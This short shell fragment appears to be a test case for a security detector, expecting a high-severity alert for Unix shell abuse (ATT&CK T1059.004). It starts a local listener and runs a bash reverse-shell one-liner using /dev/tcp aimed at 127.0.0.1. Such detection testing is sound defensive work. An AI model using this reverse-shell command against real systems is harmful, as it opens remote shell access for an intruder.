# expects: high T1059.004
. "$STAGE/act.sh"
STAGE_TALK=$'id\nexit\n' listen
timeout 5 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1"
wait $listener
